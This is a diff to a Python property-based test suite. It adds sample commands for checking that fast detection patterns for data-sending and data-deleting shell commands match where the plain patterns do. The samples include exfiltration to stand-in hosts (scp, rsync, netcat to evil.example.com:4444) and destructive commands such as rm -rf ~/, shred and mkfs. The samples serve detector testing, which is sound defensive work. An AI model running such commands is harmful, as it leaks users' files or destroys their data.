@@ -36,8 +36,17 @@ _PIECES = st.sampled_from([
     " 4444", " -t ", "--upload-file", ";", "'", "«", "é"])
 
 
+# Each command at a word start, after a letter and after a hyphen.
+_COMMANDS = ("scp -r . ana@backup.example.com:", "sftp ana@backup.example.com:",
+             "rsync -a ~/ ana@198.51.100.7:", "nc evil.example.com 4444",
+             "ncat -e evil.example.com 4444", "netcat 198.51.100.7 4444", "curl -T x ",
+             "invoke-restmethod -infile", "| mail x", "rm -rf ~/", "rmdir /s c:\\x",
+             "rd /s c:\\x", "del /f c:\\x", "remove-item -recurse", "shred x", "mkfs.ext4 x")
+_EXAMPLES = [lead + command for command in _COMMANDS for lead in ("", " ", "x", "-", "é")]
+
+
 @settings(max_examples=500, deadline=None)
-@given(st.lists(_PIECES, max_size=14).map("".join))
+@given(st.one_of(st.lists(_PIECES, max_size=14).map("".join), st.sampled_from(_EXAMPLES)))
 def test_the_fast_command_patterns_match_where_the_plain_ones_do(text: str) -> None:
     for fast, plain in ((rules_recurring.SEND_COMMAND, _SEND),
                         (rules_recurring.DELETE_COMMAND, _DELETE)):
